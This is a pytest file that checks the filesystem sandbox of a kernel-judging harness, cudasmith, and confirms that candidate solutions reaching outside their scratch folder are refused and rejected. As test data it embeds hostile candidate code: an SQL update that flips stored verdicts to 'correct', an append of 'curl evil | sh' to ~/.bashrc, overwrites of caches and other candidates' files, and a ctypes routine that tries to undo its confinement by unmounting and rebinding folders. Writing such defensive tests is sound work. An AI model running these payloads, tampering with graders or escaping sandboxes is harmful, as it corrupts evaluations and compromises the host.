"""The candidate's filesystem sandbox: both mechanisms confine a process, and candidates that reach for the
store, the caches, $HOME, /tmp, their own folder or another candidate's file, at import or in forward,
are refused and rejected under a named rule, with everything outside byte-for-byte unchanged."""

from __future__ import annotations

import hashlib
import os
import secrets
import stat
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from cudasmith.harness.options import EvalOptions
from cudasmith.harness.session import Judge
from cudasmith.harness.verdict import Verdict
from cudasmith.harness.walls import sandbox
from cudasmith.harness.walls.scratch import Scratch
from cudasmith.harness.wire.status import Status
from cudasmith.runtime import compile_c
from cudasmith.store import CacheKey, Run, RunStore

from conftest import SOLUTIONS

# An honest vector add (C on the CPU, NVRTC on the GPU) whose import or forward first runs @ATTACK@.
HONEST = {"cpu": SOLUTIONS / "vector_add_cpu.py", "cuda": SOLUTIONS / "vector_add_cuda.py"}
FORWARD = (
    "class ModelNew(nn.Module):\n    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:\n"
)
ATTACKING = (
    "def attack():\n    try:\n@ATTACK@\n    except Exception as exc:\n        print('refused:', exc)\n\n\n"
    f"@AT_IMPORT@\n\n{FORWARD}@IN_FORWARD@\n"
)

# The honest twin: at import and in forward it does what libcuda's cuInit does, a thread of its own (in C)
# writing its name, and fails where it cannot, as cuInit does (error 304); then it rewrites its main thread's
# name from Python, where the file rules see it.
NAMES_A_THREAD = r'''from pathlib import Path

from cudasmith.runtime import compile_c

NAMING = """
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

static void* name_self(void* error) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/task/%ld/comm", (long)syscall(SYS_gettid));
    FILE* comm = fopen(path, "w");
    if (!comm) {
        *(int*)error = errno;
        return 0;
    }
    fputs("cuda-EvtHandlr", comm);
    if (fclose(comm) != 0) *(int*)error = errno;  /* the buffered name is written here */
    return 0;
}

void name_a_thread(int* error) {
    pthread_t thread;
    pthread_create(&thread, 0, name_self, error);
    pthread_join(thread, 0);
}
"""
name_a_thread_in_c = compile_c(NAMING, "name_a_thread")


def name_threads() -> None:
    error = torch.zeros(1, dtype=torch.int32)
    name_a_thread_in_c(error)
    if error.item():
        raise OSError(int(error.item()), "a thread could not write its name")
    comm = Path("/proc/self/comm")
    comm.write_text(comm.read_text())


name_threads()


'''


def _indent(code: str) -> str:
    return "\n".join("        " + line for line in code.strip().splitlines())


def _confined(policy: sandbox.Policy, mechanism: str, probe: Callable[[], list[str]]) -> list[str]:
    """Run `probe` in a forked child confined by one mechanism: [its state, *what probe reports]; skips
    the test where the mechanism is not available here."""
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:  # pragma: no cover - reports through the pipe
        try:
            results = [sandbox.confine(policy, (mechanism,)), *probe()]
        except BaseException as exc:  # the parent reports it: a raise here would run the test twice
            results = [f"the probe raised {exc!r}"]
        os.write(write_end, "\n".join(results).encode())
        os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end) as pipe:
        results = pipe.read().split("\n")
    os.waitpid(child, 0)
    if not sandbox.isolated(results[0]):
        pytest.skip(f"{mechanism} is not available here: {results[0]}")
    return results


def _attempt(path: Path | str, mode: str, text: str = "planted") -> str:
    try:
        with open(path, mode) as handle:
            if mode.startswith("r"):
                return f"read {handle.read(64)!r}" if mode == "rb" else "read " + handle.read()
            return f"wrote {handle.write(text)}"
    except OSError as exc:
        return f"refused {exc.errno}"


@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_each_mechanism_confines_a_process_to_its_scratch(mechanism: str, tmp_path: Path) -> None:
    """A forked child under either mechanism writes into its scratch folder and nowhere else, and cannot
    read what is outside its read roots (`python -m cudasmith.harness.walls.sandbox` says what each costs)."""
    scratch, outside = tmp_path / "scratch", tmp_path / "outside"
    scratch.mkdir()
    outside.mkdir()
    secret = outside / "secret"
    secret.write_text("seed")
    policy = sandbox.make_policy(scratch, Path(sandbox.__file__), (outside,))
    attempts = ((scratch / "ok", "w"), (outside / "planted", "w"), (secret, "r"))
    _, inside, planted, read = _confined(policy, mechanism, lambda: [_attempt(*a) for a in attempts])
    assert inside.startswith("wrote")
    assert planted.startswith("refused") and not (outside / "planted").exists()
    assert read != "read seed", "the hidden folder's file was read"


def _name_a_thread_and_reach_other_entries() -> list[str]:
    """What libcuda's cuInit does (a thread of its own writes its name, fopen "w"), then write opens of
    another process's entry and of /proc/sys (opened only: nothing is ever written there)."""
    named: list[str] = []

    def name() -> None:
        named.append(_attempt(f"/proc/self/task/{threading.get_native_id()}/comm", "w", "cuda-EvtHandlr"))
        named.append(Path(f"/proc/self/task/{threading.get_native_id()}/comm").read_text().strip())

    thread = threading.Thread(target=name)
    thread.start()
    thread.join()
    others = []
    for path in (f"/proc/{os.getppid()}/oom_score_adj", "/proc/sys/vm/overcommit_memory"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            others.append(f"opened {path} to write")
        except OSError as exc:
            others.append(f"refused {exc.errno}")
    return named + others


@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_a_confined_process_names_its_threads_as_cuda_does_and_writes_no_other_proc_entry(
    mechanism: str, tmp_path: Path
) -> None:
    """cuInit names the driver's threads through /proc/self/task/<tid>/comm and fails with error 304 where
    it cannot: a confined process may write its own /proc entry, never another process's nor /proc/sys."""
    policy = sandbox.make_policy(tmp_path, Path(sandbox.__file__), ())
    _, wrote, name, parent, sysctl = _confined(policy, mechanism, _name_a_thread_and_reach_other_entries)
    assert (wrote, name) == ("wrote 14", "cuda-EvtHandlr")
    assert parent.startswith("refused") and sysctl.startswith("refused"), (parent, sysctl)


def _compile_as_the_judge_does_before_the_solution_loads(environment: dict[str, str]) -> list[str]:
    """In a candidate worker's environment: compile a C kernel, as the perturbation (and on a GPU the timing
    kernels) are compiled before the solution loads."""
    os.environ.update(environment)
    try:
        kernel = compile_c(f"int judged(void) {{ return {secrets.randbits(30)}; }}", "judged")
        return [f"compiled into {kernel.library_path.parent}"]
    except Exception as exc:
        return [f"failed: {type(exc).__name__}: {exc}"]


@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_the_judge_s_own_kernels_build_in_a_confined_worker_before_the_solution_loads(
    mechanism: str, tmp_path: Path
) -> None:
    """The shared cache is read-only to a candidate's worker and the key that vouches for its files is out
    of reach: the judge's own kernels (the timing kit on a GPU, whose absence once rejected every timed
    candidate for 'switching off the judge's recording') build in the worker's scratch folder instead."""
    scratch = Scratch(Path(sandbox.__file__), "t" + os.urandom(4).hex())
    try:
        environment = scratch.env()
        _, outcome = _confined(
            scratch.policy,
            mechanism,
            lambda: _compile_as_the_judge_does_before_the_solution_loads(environment),
        )
        assert outcome == f"compiled into {scratch.root / 'build' / '_cpu'}", outcome
    finally:
        scratch.remove()


def _unlisted_device() -> str | None:
    """A device outside the sandbox's list that opens here, read-only: a disk, else the kernel's log (no
    other device is ever opened by a test: opening some has effects)."""
    disks = [e.path for e in os.scandir("/dev") if stat.S_ISBLK(e.stat(follow_symlinks=False).st_mode)]
    for path in [*disks, "/dev/kmsg"]:
        try:
            os.close(os.open(path, os.O_RDONLY))
            return path
        except OSError:
            continue
    return None


@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_a_confined_process_opens_the_devices_a_kernel_needs_and_no_other(
    mechanism: str, tmp_path: Path
) -> None:
    """/dev/null takes writes and /dev/urandom gives bytes; no other device opens, a disk least of all:
    root reads one raw whatever the file system's rules (the store and the judge's key are on it)."""
    device = _unlisted_device()
    policy = sandbox.make_policy(tmp_path, Path(sandbox.__file__), ())

    def open_devices() -> list[str]:
        with open("/dev/urandom", "rb") as urandom:
            random_bytes = str(len(urandom.read(8)))
        return [_attempt("/dev/null", "w"), random_bytes, _attempt(device, "rb") if device else "refused"]

    _, null, urandom, unlisted = _confined(policy, mechanism, open_devices)
    assert (null, urandom) == ("wrote 7", "8")
    assert unlisted.startswith("refused"), f"{device} was opened: {unlisted}"


# A program that, confined, tries to undo its confinement as root could: uncover a hidden folder (the
# namespace covers it with a mount) and bind an outside folder into its scratch, made writable.
UNDO_CONFINEMENT = r"""
import ctypes, sys

libc = ctypes.CDLL(None, use_errno=True)
hidden, outside, scratch = sys.argv[1:]
header, sets = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
libc.capget(header, sets)  # two sets of (effective, permitted, inheritable): capabilities 0-31, 32-63
print(sets[0] | sets[3] << 32)
libc.umount2(hidden.encode(), 2)
try:
    print(open(hidden + "/secret").read())
except OSError as exc:
    print(f"refused {exc.errno}")


class MountAttr(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in ("set", "clear", "propagation", "userns")]


libc.mount(outside.encode(), scratch.encode(), None, 4096, None)
libc.syscall(442, -100, scratch.encode(), 0, ctypes.byref(MountAttr(0, 1, 0, 0)), ctypes.c_size_t(32))
try:
    open(scratch + "/planted", "w").write("planted")
except OSError:
    pass
"""


@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_a_confined_process_keeps_no_capability_to_undo_its_confinement(
    mechanism: str, tmp_path: Path
) -> None:
    """A worker started by root is root: without dropping its capabilities it could unmount what covers
    the store (namespace) or load a kernel module (Landlock). A program it execs has none and undoes nothing."""
    scratch, outside, hidden = tmp_path / "scratch", tmp_path / "outside", tmp_path / "hidden"
    for folder in (scratch / "mount", outside, hidden):
        folder.mkdir(parents=True)
    (hidden / "secret").write_text("seed")
    policy = sandbox.make_policy(scratch, Path(sandbox.__file__), (hidden,))
    arguments = [sys.executable, "-c", UNDO_CONFINEMENT, str(hidden), str(outside), str(scratch / "mount")]

    def undo() -> list[str]:
        return subprocess.run(arguments, capture_output=True, text=True, check=False).stdout.split("\n")[:2]

    _, capabilities, secret = _confined(policy, mechanism, undo)
    assert capabilities == "0", f"effective capabilities {int(capabilities):#x}"
    assert secret != "seed", "the hidden folder was uncovered"
    assert list(outside.iterdir()) == []


def _tree(*roots: Path) -> dict[str, str]:
    """Every file below the roots, by content hash (what must come out unchanged)."""
    found = {}
    for root in roots:
        for path in [root] if root.is_file() else sorted(root.rglob("*")):
            if path.is_file():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@pytest.mark.slow
@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_candidates_that_reach_outside_are_rejected_and_change_nothing(
    mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each attack, at import and in forward, under each mechanism: refused by the OS inside the
    candidate, rejected under `sandbox-write`/`sandbox-read` naming the path, and the store, caches and
    folders left as they were."""
    _judge_attacks("cpu", mechanism, tmp_path, monkeypatch)


@pytest.mark.gpu
@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
def test_on_the_gpu_the_same_candidates_give_the_same_verdicts(
    mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same attacks around an NVRTC kernel, judged on the GPU: each verdict names the mechanism."""
    _judge_attacks("cuda", mechanism, tmp_path, monkeypatch)


def _judge_attacks(device: str, mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    template = HONEST[device].read_text().replace(FORWARD, ATTACKING)
    options = EvalOptions(device=device, seeds_per_config=1, timing=False)
    state, _ = sandbox.setup_cost(mechanism, sandbox.make_policy(tmp_path, Path(sandbox.__file__), ()))
    if not sandbox.isolated(state):
        pytest.skip(state)
    monkeypatch.setenv(sandbox.MECHANISMS_ENV, mechanism)
    home, cache, folder = tmp_path / "home", tmp_path / "cache", tmp_path / "solutions"
    for path in (home, cache / "cpu", folder):
        path.mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's\n")
    (cache / "cpu" / "kernel.so").write_bytes(b"\x7fELF library")
    store_path = tmp_path / "runs" / "cudasmith.db"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CUDASMITH_CACHE", str(cache))
    monkeypatch.setenv("CUDASMITH_STORE", str(store_path))
    with RunStore(store_path) as store:
        run = store.create_run(Run("bench", "t", "v", "cpu", "cpu", "h", secret_seed=1234))
        candidate = store.add_candidate(run.id, "k", "file", source="x", code_hash="c")
        wrong = Verdict(Status.INCORRECT, "values differ", "t", "x.py", "cpu")
        store.record_verdict(candidate.id, wrong, CacheKey("v", "cpu", "h", "o"), "c", run.id)
    other = folder / "other.py"
    other.write_text("# another candidate's file\n")
    planted_tmp = Path("/tmp") / f"cudasmith-test-planted-{secrets.token_hex(4)}"
    attacks = {
        "store": (
            f"import sqlite3\nsqlite3.connect({str(store_path)!r}).execute(\"UPDATE verdicts SET status='correct'\")",
            "sandbox-write",
            store_path,
        ),
        "seed": (f"print(open({str(store_path)!r}, 'rb').read()[:100])", "sandbox-read", store_path),
        "cache": (f"open({str(cache / 'cpu' / 'kernel.so')!r}, 'wb').write(b'x')", "sandbox-write", cache),
        "home": (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')", "sandbox-write", home),
        "tmp": (f"open({str(planted_tmp)!r}, 'w').write('x')", "sandbox-write", planted_tmp),
        "folder": (f"open({str(folder / 'planted.py')!r}, 'w').write('x')", "sandbox-write", folder),
        "other": (f"open({str(other)!r}, 'w').write('import os')", "sandbox-write", other),
    }
    before = _tree(store_path.parent, cache / "cpu" / "kernel.so", home, folder)
    solutions = {}
    for name, (code, _, _) in attacks.items():
        for when in ("import", "forward"):
            source = (
                template.replace("@ATTACK@", _indent(code))
                .replace("@AT_IMPORT@", "attack()" if when == "import" else "")
                .replace("@IN_FORWARD@", "        attack()" if when == "forward" else "")
            )
            solutions[(name, when)] = folder / f"{name}_{when}.py"
            solutions[(name, when)].write_text(source)
    honest = folder / "names_its_threads.py"
    honest.write_text(
        HONEST[device].read_text().replace(FORWARD, f"{NAMES_A_THREAD}{FORWARD}        name_threads()\n")
    )
    before = {**before, **_tree(folder)}
    try:
        with Judge(task="level1/vector_add", options=options, candidates=len(solutions) + 1) as judge:
            *judged, honest_verdict = judge.judge_many([*solutions.values(), honest])
            verdicts = dict(zip(solutions, judged, strict=True))
    finally:
        planted = planted_tmp.exists()
        planted_tmp.unlink(missing_ok=True)
    for (name, when), verdict in verdicts.items():
        _, rule, target = attacks[name]
        assert verdict.status == Status.REJECTED, (name, when, verdict.reason)
        assert f"{rule}: {os.path.realpath(target)}" in verdict.reason, (name, when, verdict.reason)
        assert "refused:" in verdict.artifacts.get("stdout", ""), "the OS refused it inside the candidate"
        assert verdict.isolation["filesystem"] == state
    assert honest_verdict.status == Status.CORRECT, honest_verdict.reason
    assert honest_verdict.isolation["filesystem"] == state
    assert not planted
    assert _tree(store_path.parent, cache / "cpu" / "kernel.so", home, folder) == before
